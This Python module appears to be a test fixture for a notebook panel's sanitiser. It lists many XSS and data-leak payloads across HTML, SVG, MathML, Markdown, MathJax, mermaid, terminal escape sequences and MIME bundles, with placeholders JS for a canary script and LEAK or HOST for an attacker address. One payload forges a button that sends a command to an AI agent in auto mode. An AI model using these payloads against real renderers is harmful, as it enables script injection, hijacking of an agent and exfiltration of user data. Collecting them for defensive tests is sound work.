# ruff: noqa: E501 - each is one line, as it would be sent
"""Texts of an attacker who wants a script to run in our panel, or a request to leave from it.

In each, `JS` is a call that sets the canary, and `LEAK` the attacker's address.
"""

from __future__ import annotations

from collections.abc import Iterator

RUNNING = r'''
<script>JS</script>
<SCRIPT SRC=LEAK></SCRIPT>
<script src="data:text/javascript,JS"></script>
<script type=module>JS</script>
<script/x>JS</script>
<scr<script>ipt>JS</scr</script>ipt>
<img src=x onerror=JS>
<img src="x" OnErRoR="JS">
<img/src=x/onerror=JS>
<img src=x onerror="&#74;&#83;" onload=JS>
<img src=`x`onerror=JS>
<img """><script>JS</script>">
<img src=x:x onerror="JS"//
<image src=x onerror=JS>
<svg onload=JS>
<svg/onload=JS>
<svg><script>JS</script></svg>
<svg><script href="data:,JS"/></svg>
<svg><animate onbegin=JS attributeName=x dur=1s>
<svg><set attributeName=href to="javascript:JS"/><a><text y=9>x</text></a></svg>
<svg><a xlink:href="javascript:JS"><text x=9 y=9>click</text></a></svg>
<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>
<svg><style><img src=x onerror=JS></style></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='JS'/></svg>#x"/></svg>
<math><maction actiontype="statusline#JS" xlink:href="javascript:JS">click</maction></math>
<math href="javascript:JS">click</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=JS&gt;"></mglyph></table></mtext></math>
<math><mi><b><table><mglyph><style><math><img src=x onerror=JS></table></mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>
<iframe src="javascript:top.JS"></iframe>
<iframe srcdoc="<script>JS</script>"></iframe>
<iframe onload=JS></iframe>
<object data="javascript:JS"></object>
<object data="data:text/html,<script>JS</script>"></object>
<embed src="data:text/html,<script>JS</script>">
<embed src="javascript:JS">
<body onload=JS>
<frameset onload=JS>
<input onfocus=JS autofocus>
<select onfocus=JS autofocus></select>
<textarea onfocus=JS autofocus></textarea>
<button onfocus=JS autofocus>x</button>
<a onfocus=JS autofocus tabindex=0>x</a>
<details open ontoggle=JS>x</details>
<video><source onerror=JS></video>
<video src=x onerror=JS></video>
<audio src=x onerror=JS></audio>
<marquee onstart=JS>x</marquee>
<div onpointerrawupdate=JS onpointerenter=JS onmouseover=JS style="width:999px;height:99px">x</div>
<div contenteditable onbeforeinput=JS onfocus=JS autofocus>x</div>
<div popover id=p onbeforetoggle=JS>x</div><button popovertarget=p autofocus>x</button>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=JS>x</b>
<b style="transition:color 1s" ontransitionend=JS>x</b>
<xss oncontentvisibilityautostatechange=JS style=display:block;content-visibility:auto>x</xss>
<noscript><p title="</noscript><img src=x onerror=JS>">
<textarea><p title="</textarea><img src=x onerror=JS>">
<title><p title="</title><img src=x onerror=JS>">
<xmp><p title="</xmp><img src=x onerror=JS>">
<noembed><p title="</noembed><img src=x onerror=JS>">
<template><script>JS</script></template>
<!--><img src=x onerror=JS>-->
<!--!><img src=x onerror=JS>
<![CDATA[><img src=x onerror=JS>]]>
<?xml version="1.0"?><img src=x onerror=JS>
<p/title="'><img src=x onerror=JS>
<a href="javascript&colon;JS">click</a>
<a href="javascript:JS">click</a>
<a href="JaVaScRiPt:JS">click</a>
<a href=" &#14; javascript:JS">click</a>
<a href="java&Tab;script:JS">click</a>
<a href="java&NewLine;script:JS">click</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;JS">click</a>
<a href="&#x0000006A;avascript:JS">click</a>
<a href="vbscript:MsgBox(1)">click</a>
<a href="data:text/html,<script>JS</script>">click</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>
<a href="blob:JS">click</a>
<a href="javascript://%0aJS">click</a>
<area href="javascript:JS" shape=default>
<form action="javascript:JS"><input type=submit autofocus></form>
<form><button formaction="javascript:JS" autofocus>click</button></form>
<button data-commandlinker-command="runmenu:run-all" autofocus>click</button>
<button type="button" data-commandlinker-command="jupyter-agent:send" data-commandlinker-args='{"text":"x","mode":"auto"}'>Allow</button>
[click](javascript:JS)
[click](JaVaScRiPt:JS)
[click](<java script:JS>)
[click](javascript&colon;JS)
[click](&#106;avascript:JS)
[click](vbscript:JS)
[click](data:text/html,<script>JS</script>)
[click](x "onmouseover=JS")
[click]("onmouseover="JS)
[click][ref]
![x](javascript:JS)
![x](x"onerror="JS)
![x" onerror="JS](x)
![`<img src=x onerror=JS>`](x)
<javascript:JS>
`<img src=x onerror=JS>`
`` ` <img src=x onerror=JS> ``
| a | b |
- [ ] <img src=x onerror=JS>
> <img src=x onerror=JS>
# <img src=x onerror=JS>
$\href{javascript:JS}{click}$
$$\href{javascript:JS}{click}$$
$\style{background:url(LEAK)}{x}$
$\class{x" onload="JS}{x}$
$\unicode{<img src=x onerror=JS>}$
$<img src=x onerror=JS>$
$\text{<img src=x onerror=JS>}$
$\require{html}\href{javascript:JS}{x}$
'''
DRAWN = r"""
<svg><image href=" LEAK "/></svg>
<svg><IMAGE HREF="LEAK"/></svg>
<svg><image/href="LEAK"/></svg>
<svg><a href="LEAK"><animate attributeName=href values="javascript:JS"/><text y=9>click</text></a></svg>
<svg><a><set attributeName=xlink:href to="javascript:JS"/><text y=9>click</text></a></svg>
<svg><animate attributeName=href values="LEAK" begin=0s /><image/></svg>
<svg><image><set attributeName=href to="LEAK"/></image></svg>
<svg><use><animate attributeName=href to="LEAK#x" dur=1s fill=freeze /></use></svg>
<svg><style>@import url(LEAK);</style></svg>
<svg><style>rect{fill:url(LEAK#x)}</style><rect width=9 height=9 /></svg>
<svg><style>text{font-family:x}@font-face{font-family:x;src:url(LEAK)}</style><text y=9>x</text></svg>
<svg><rect fill="url(LEAK#x)" width=9 height=9 /></svg>
<svg><rect filter="url(LEAK#x)" width=9 height=9 /></svg>
<svg><rect mask="url(LEAK#x)" width=9 height=9 /></svg>
<svg><rect clip-path="url(LEAK#x)" width=9 height=9 /></svg>
<svg><path marker-start="url(LEAK#x)" d="M0 0L9 9"/></svg>
<svg><text><textPath href="LEAK#x">x</textPath></text></svg>
<svg><text><tref xlink:href="LEAK#x"/></text></svg>
<svg><linearGradient href="LEAK#x" id=g /><rect fill="url(#g)" width=9 height=9 /></svg>
<svg><pattern href="LEAK#x" id=p /><rect fill="url(#p)" width=9 height=9 /></svg>
<svg><mpath href="LEAK#x"/><cursor href="LEAK"/></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">JS</handler></svg>
<svg><foreignObject><iframe src="LEAK"></iframe></foreignObject></svg>
<svg><foreignObject><p style="background:url(LEAK)">x</p></foreignObject></svg>
<svg><video src="LEAK" autoplay/><audio src="LEAK" autoplay/></svg>
<svg><script xlink:href="LEAK"></script></svg>
<svg><discard onbegin=JS /><animateMotion onbegin=JS dur=1s /></svg>
<svg><title><img src=x onerror=JS></title><desc><img src="LEAK"></desc></svg>
<svg><metadata><link rel=stylesheet href="LEAK"/></metadata></svg>
<svg xml:base="LEAK"><image href="x"/></svg>
<svg style="background:url(LEAK);width:9px;height:9px"></svg>
<?xml-stylesheet href="LEAK"?><svg><rect width=9 height=9 /></svg>
<!DOCTYPE svg [<!ENTITY x SYSTEM "LEAK">]><svg><text y=9>&x;</text></svg>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9SlM+PC9zdmc+">
<img src="data:text/html,<script>JS</script>">
<img src="\\HOST\leak">
<img src="/\HOST/leak">
<img src="ht&Tab;tp://HOST/leak">
<img src=" LEAK">
<img src="&#104;ttp://HOST/leak">
<img src="HTTP://HOST/leak">
<img src=x alt="" style="content:url(LEAK)">
<img loading=eager fetchpriority=high decoding=sync crossorigin src="LEAK">
<input type=image formaction="LEAK" src="LEAK">
<link rel="stylesheet preload" as=style href="LEAK">
<link rel=modulepreload href="LEAK">
<link rel=dns-prefetch href="//HOST">
<link rel=manifest href="LEAK">
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["LEAK"]}]}</script>
<script type=importmap>{"imports":{"x":"LEAK"}}</script>
<portal src="LEAK"></portal>
<fencedframe src="LEAK"></fencedframe>
<applet code="LEAK" archive="LEAK"></applet>
<layer src="LEAK"></layer>
<isindex type=image src="LEAK">
<blockquote cite="LEAK">x</blockquote><del cite="LEAK">x</del><img longdesc="LEAK" usemap="LEAK" src=x>
<html manifest="LEAK"><head profile="LEAK"></head></html>
"""
TERMINAL = (
    "\x1b]8;;javascript:JS\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]8;id=1;LEAK\x07click\x1b]8;;\x07",
    '\x1b]8;;LEAK" onmouseover="JS\x07click\x1b]8;;\x07',
    "\x1b]8;;data:text/html,<script>JS</script>\x07click\x1b]8;;\x07",
    "\x1b]1337;File=inline=1:PHNjcmlwdD4=\x07",
    "\x1b]0;<img src=x onerror=JS>\x07",
    "\x1b]52;c;SlM=\x07",
    "\x1bP+q<img src=x onerror=JS>\x1b\\",
    "\x1b_<script>JS</script>\x1b\\",
    "\x1b^<script>JS</script>\x1b\\",
    "\x1b[38;2;1;2;3;url(LEAK)mx\x1b[0m",
    "\x1b[38;5;<img src=x onerror=JS>mx\x1b[0m",
    "\x1b[1;31;48;5;9999999999m<b onclick=JS>x</b>",
    "\x1b[2J\x1b[H<script>JS</script>",
    "\x1b[<script>JS</script>m",
    "\r<img src=x onerror=JS>\b\b\b\b",
    "<i\bmg src=x onerror=JS>",
    "<im\x1b[0mg src=x onerror=JS>",
    "<img src=x on\x1b[1merror=JS>",
    "\x9d8;;javascript:JS\x9cclick\x9d8;;\x9c",
    "LEAK\x1b[0m' onmouseover='JS",
    "www.HOST/leak javascript:JS mailto:x@HOST?body=<script>JS</script>",
)  # fmt: skip
LEAKING = r"""
<img src="LEAK">
<img src=//HOST/leak>
<img srcset="LEAK 1x, LEAK 2x">
<img src="data:image/png;base64,AAAA" srcset="LEAK 2x">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='LEAK'/></svg>">
<picture><source srcset="LEAK"><img src=x></picture>
<video poster="LEAK"></video>
<video src="LEAK" autoplay></video>
<audio src="LEAK" autoplay></audio>
<video><track default src="LEAK"></video>
<iframe src="LEAK"></iframe>
<object data="LEAK"></object>
<embed src="LEAK">
<link rel=stylesheet href="LEAK">
<link rel=prefetch href="LEAK">
<link rel=preload as=image href="LEAK">
<link rel=preconnect href="LEAK">
<link rel=icon href="LEAK">
<style>@import "LEAK";</style>
<style>body{background:url(LEAK)}</style>
<style>@font-face{font-family:x;src:url(LEAK)}*{font-family:x}</style>
<p style="background:url(LEAK)">x</p>
<p style="background-image:url('LEAK')">x</p>
<p style="background:u\72l(LEAK)">x</p>
<p style="list-style-image:url(LEAK)">x</p>
<p style="cursor:url(LEAK),auto">x</p>
<p style="border-image:url(LEAK)">x</p>
<p style="background:image-set('LEAK' 1x)">x</p>
<p style="filter:url(LEAK#x)">x</p>
<p style="mask:url(LEAK);clip-path:url(LEAK#x)">x</p>
<p style="--x:url(LEAK);background:var(--x)">x</p>
<p style="content:url(LEAK)">x</p>
<table background="LEAK"><tr><td background="LEAK">x</td></tr></table>
<body background="LEAK">
<input type=image src="LEAK">
<svg><image href="LEAK"/></svg>
<svg><image xlink:href="LEAK"/></svg>
<svg><use href="LEAK#x"/></svg>
<svg><filter><feImage href="LEAK"/></filter></svg>
<svg><rect style="fill:url(LEAK#x)"/></svg>
<bgsound src="LEAK">
<a href="x" ping="LEAK" autofocus>x</a>
<form action="LEAK"><input name=q value=secret><input type=submit></form>
![x](LEAK)
![x](<LEAK>)
![x]( LEAK "title")
[![x](LEAK)](LEAK)
![x][leak]
| ![x](LEAK) |
<LEAK>
LEAK
"""
TYPESET = r"""
$\unicode[Arial;background:url(LEAK)]{x41}$
$$\unicode[Arial;background:url(LEAK)]{x41}$$
\\(\unicode[Arial;background:url(LEAK)]{x41}\\)
\\[\unicode[Arial;background:url(LEAK)]{x41}\\]
\begin{align}\unicode[Arial;background:url(LEAK)]{x41}\end{align}
$\unicode[Arial;list-style-image:url(LEAK);display:list-item]{x41}$
$\unicode[Arial;border-image:url("LEAK") 1;border:9px solid]{x41}$
$\unicode[Arial;background:u\72l(LEAK)]{x41}$
$\unicode[Arial;background:\75\72\6c(LEAK)]{x41}$
$\unicode[Arial;b\61 ckground:url(LEAK)]{x41}$
$\unicode[Arial;background:image-set('LEAK' 1x)]{x41}$
$\unicode[Arial;background:-webkit-image-set(url(LEAK) 1x)]{x41}$
$\unicode[Arial;background:cross-fade(url(LEAK),url(LEAK),50%)]{x41}$
$\unicode[Arial;mask-image:url(LEAK)]{x41}$
$\unicode[Arial;content:url(LEAK)]{x41}$
$\unicode[Arial;display:block;shape-outside:url(LEAK);float:left]{x41}$
$\unicode[Arial;--x:url(LEAK);background:var(--x)]{x41}$
$\unicode[Arial;background:/**/url(LEAK)/**/]{x41}$
$\unicode[.5,.5][Arial;background:url(LEAK)]{x41}$
$\unicode [ .5 , .5 ] [Arial;background:url(LEAK)]{x41}$
$\unicode{x41}\unicode[][Arial]{x42}\unicode[Arial;background:url(LEAK)]{x43}$
$&#92;unicode[Arial;background:url(LEAK)]{x41}$
$\uni<wbr>code[Arial;background:url(LEAK)]{x41}$
$\uni<!-- -->code[Arial;background:url(LEAK)]{x41}$
<code class="mathjax_process">$\unicode[Arial;background:url(LEAK)]{x41}$</code>
<pre class="mathjax_process">$\unicode[Arial;background:url(LEAK)]{x41}$</pre>
| **$\unicode[Arial;background:url(LEAK)]{x41}$** |
# [$\unicode[Arial;background:url(LEAK)]{x41}$](x)
$\text{\unicode[Arial;background:url(LEAK)]{x41}}$
$\begin{array}{c}\unicode[Arial;background:url(LEAK)]{x41}\end{array}$
$\let\x=\unicode\x[Arial;background:url(LEAK)]{x41}$
$\let\x\unicode\let\y\x\y[Arial;background:url(LEAK)]{x41}$
$\def\x{\unicode}\x[Arial;background:url(LEAK)]{x41}$
$\def\x#1{\unicode[#1]{x41}}\x{Arial;background:url(LEAK)}$
$\def\x#1{\uni#1}\x{code[Arial;background:url(LEAK)]{x41}}$
$\newcommand{\x}[1]{\unicode[Arial;background:url(LEAK)]{x#1}}\x{41}$
$\newcommand\x[2][LEAK]{\unicode[Arial;background:url(#1)]{#2}}\x{x41}$
$\renewcommand{\aleph}{\unicode[Arial;background:url(LEAK)]{x41}}\aleph$
$\def\beth{\unicode[Arial;background:url(LEAK)]{x41}}$ then $\beth$
$\newenvironment{x}{\unicode[Arial;background:url(LEAK)]{x41}}{}\begin{x}\end{x}$
$\DeclareMathOperator{\x}{\unicode[Arial;background:url(LEAK)]{x41}}\x$
$\require{unicode}\unicode[Arial;background:url(LEAK)]{x41}$
$\style{background:url(LEAK)}{x}$
$\style{background:u\72l(LEAK)}{\class{jp-Dialog}{\cssId{x}{x}}}$
$\bbox[background:url(LEAK)]{x}$
$\bbox[5px,background:image-set('LEAK' 1x)]{x}$
$\mmlToken{mi}[style="background:url(LEAK)"]{x}$
$\mmlToken{mglyph}[src="LEAK"]{x}$
$\fcolorbox{red;background:url(LEAK)}{red}{x}$
$\colorbox{red;background:url(LEAK)}{x}$
$\color{red;background:url(LEAK)}{x}$
$\definecolor{x}{named}{red;background:url(LEAK)}\colorbox{x}{x}$
$\enclose{box}[mathbackground="url(LEAK)",style="background:url(LEAK)"]{x}$
$\begin{array}{c}\rowcolor{url(LEAK)}\cellcolor{red;background:url(LEAK)}x\end{array}$
$\rule[0em;background:url(LEAK)]{1em}{1em}\hspace{1em;background:url(LEAK)}$
$\text{<img src="LEAK">}\tag{<img src="LEAK">}$
$\includegraphics[width=1em]{LEAK}\htmlStyle{background:url(LEAK)}{x}$
"""
MANY_LINES = (
    '[click][1]\n\n[1]: javascript:JS "title"',
    "![x][1]\n\n[1]: LEAK",
    "| a |\n|---|\n| <img src=x onerror=JS> |\n| ![x](LEAK) |\n| [x](javascript:JS) |",
    '```"><img/src=x/onerror=JS>\ncode\n```',
    "$\\unicode%\n[Arial;background:url(LEAK)]\n{x41}$",
    "$$\n\\unicode[Arial;background:url(LEAK)]{x41}\n$$",
    "<span>$\\unicode[Arial;\nbackground:url(LEAK)]{x41}$</span>",
    "```html <img src=x onerror=JS>\n<img src=x onerror=JS>\n```",
    '~~~"onmouseover="JS\ncode\n~~~',
    "```mermaid\ngraph TD; A[<img src=x onerror=JS>] --> B\nclick A href \"javascript:JS\"\n```",
    "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph TD; A[\"<img src='LEAK'>\"]\n```",
    "$$\n\\begin{array}{c} \\href{javascript:JS}{x} \\end{array}\n$$",
    "<div>\n\n<img src=x onerror=JS>\n\n</div>",
    "<a href='java\nscript:JS'>click</a>",
    "<a href='java\tscript:JS'>click</a>",
    "<a href='\x01javascript:JS'>click</a>",
    "<img src=x one\x00rror=JS>",
    "<base href='LEAK'>\n<img src=x>",
    "<meta http-equiv='refresh' content='0;url=LEAK'>",
    "<meta http-equiv='refresh' content='0;url=javascript:JS'>",
    "\x1b]8;;javascript:JS\x07click\x1b]8;;\x07",
    "\x1b]8;;LEAK\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[31m<img src=x onerror=JS>\x1b[0m",
    "\x9b31m<script>JS</script>\u202e<script>JS</script>",
)  # fmt: skip
BUNDLES = (
    ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='JS'><script>JS</script></svg>"),
    ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'><image href='LEAK'/></svg>"),
    ("application/javascript", "JS"),
    ("text/javascript", "JS"),
    ("text/latex", r"$\href{javascript:JS}{click}$<img src=x onerror=JS>"),
    ("text/markdown", "![x](LEAK)<img src=x onerror=JS>[x](javascript:JS)"),
    ("text/vnd.mermaid", "graph TD; A[<img src=x onerror=JS>]"),
    ("application/vnd.jupyter.stdout", "<img src=x onerror=JS>"),
    ("image/png", "AAAA\" onerror=\"JS"),
    ("application/pdf", "JVBERi0xLjAK"),
)  # fmt: skip
VEGA = {
    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
    "data": {"url": "LEAK", "format": {"type": "csv"}},
    "mark": "bar",
    "encoding": {"x": {"field": "a", "type": "nominal"}},
}
GEOMETRY = {"type": "Point", "coordinates": [0, 0]}
JSON_BUNDLES = (
    ("application/vnd.vegalite.v5+json", VEGA),
    ("application/geo+json", {"type": "Feature", "geometry": GEOMETRY, "properties": {}}),
    ("application/json", {"<img src=x onerror=JS>": "<img src=x onerror=JS>"}),
)


def payloads() -> list[str]:
    """All texts, still with `JS`, `LEAK` and `HOST` in them."""
    return [
        *_lines(RUNNING),
        *_lines(LEAKING),
        *_lines(DRAWN),
        *TERMINAL,
        *MANY_LINES,
        *formulas(),
    ]


def formulas() -> list[str]:
    """Formulas that MathJax turns into more than text."""
    return list(_lines(TYPESET))


def _lines(text: str) -> Iterator[str]:
    return filter(None, text.splitlines())
